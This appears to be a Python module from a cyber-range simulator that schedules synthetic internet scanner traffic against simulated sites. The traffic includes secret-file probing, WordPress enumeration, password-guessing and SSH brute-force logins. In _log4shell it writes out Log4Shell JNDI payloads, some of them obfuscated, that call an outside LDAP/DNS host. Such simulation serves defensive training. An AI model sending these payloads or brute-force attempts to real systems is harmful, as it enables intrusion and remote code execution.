"""Scanners of every day: they knock at every site, find nothing, and go on."""

from __future__ import annotations

from random import Random

from range.estate.addresses import abroad
from range.estate.sites import Site
from range.visits import agents, wordlists
from range.visits.browser import Browser
from range.visits.engine import Stage
from range.visits.staff import LOGINS
from range.visits.steps import Actor, Pause, Request, SshLogin, ToolRun, Visit
from range.visits.world import DAY, HOUR, START, World


def arrive(world: World, stage: Stage, *, tools: bool) -> None:
    """Plan the scanners of one site; `tools` also runs real ones where this site is meant for it."""
    site = stage.site
    actor = world.actor(site.short, f"pemindai@{site.short}", "scanner")
    for day in range(world.days):
        dice = world.dice("scanners", site.short, day)
        midnight = START + day * DAY
        for plan, chance in (
            (_secrets, 0.5),
            (_wordpress, 0.35),
            (_exploits, 0.3),
            (_login, 0.3),
            (_log4shell, 0.2),
        ):
            if dice.random() < chance:
                scanner = world.browser(actor, abroad(dice), dice.choice(wordlists.SCANNER_AGENTS))
                scanner.origin = ""
                visit = plan(scanner, site, Random(dice.getrandbits(60)))
                stage.enter(visit, midnight + dice.uniform(0, 24) * HOUR)
        if dice.random() < 0.3:
            stage.enter(_broken(actor, abroad(dice), dice), midnight + dice.uniform(0, 24) * HOUR)
        if site.shell_access:
            for _ in range(dice.randrange(2, 5)):
                ip = abroad(dice)
                user = dice.choice(("root", "admin", "ubuntu", "test", "oracle", "postgres"))
                words = tuple(dice.choices(wordlists.PASSWORDS, k=dice.randrange(1, 4)))
                step = SshLogin(actor, ip, user, words)
                stage.enter(_one(step), midnight + dice.uniform(0, 24) * HOUR)
    for day, run in wordlists.TOOL_RUNS.get(site.short, ()) if tools else ():
        dice = world.dice("tool", site.short, day)
        stage.enter(_one(ToolRun(actor, abroad(dice), *run)), world.at(day, 3 + dice.random()))


def _secrets(me: Browser, _site: Site, dice: Random) -> Visit:
    for path in dice.sample(wordlists.SECRETS, k=min(len(wordlists.SECRETS), 12 + dice.randrange(20))):
        yield from me.get(path)
        yield Pause(dice.uniform(0.1, 1.2))


def _wordpress(me: Browser, _site: Site, dice: Random) -> Visit:
    me.agent = dice.choice((me.agent, agents.WPSCAN))
    for path in ("/", "/wp-login.php", "/xmlrpc.php", "/wp-json/wp/v2/users", "/?author=1", "/readme.html"):
        yield from me.get(path)
    for name in dice.sample(wordlists.PLUGINS, k=14):
        yield from me.get(f"/wp-content/plugins/{name}/readme.txt")
        yield Pause(0.3)
    yield from me.post("/xmlrpc.php", {"methodName": "system.listMethods"})


def _exploits(me: Browser, site: Site, dice: Random) -> Visit:
    # Where a hole is open, a scanner's harmless check would truly run: it stays away from there.
    holes = site.options.get("holes")
    open_names = [str(name) for name in holes] if isinstance(holes, list) else []
    known = [row for row in wordlists.EXPLOITS if not any(name in row[1] for name in open_names)]
    for method, target, body in dice.sample(known, k=14):
        yield from me.ask(method, target, body)
        yield Pause(dice.uniform(0.2, 2))


def _login(me: Browser, site: Site, dice: Random) -> Visit:
    if site.app not in LOGINS:
        yield from me.get("/admin/")
        return
    where, name, word, _ = LOGINS[site.app]
    for password in dice.choices(wordlists.PASSWORDS, k=8 + dice.randrange(25)):
        yield from me.post(where, {name: dice.choice(("admin", "administrator", "root")), word: password})
        yield Pause(dice.uniform(0.5, 4))


def _log4shell(me: Browser, _site: Site, _dice: Random) -> Visit:
    for target in (
        "/",
        "/?x=${jndi:ldap://203.0.113.9:1389/a}",
        "/login?user=${${lower:j}ndi:ldap://203.0.113.9/a}",
    ):
        me.agent = "${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/a}"
        yield from me.get(target, referrer="${jndi:dns://203.0.113.9/b}")


def _broken(actor: Actor, ip: str, dice: Random) -> Visit:
    for raw in dice.sample(wordlists.BROKEN, k=2):
        yield Request(actor, ip, "", "", raw=raw)
        yield Pause(1)


def _one(step: SshLogin | ToolRun) -> Visit:
    yield step
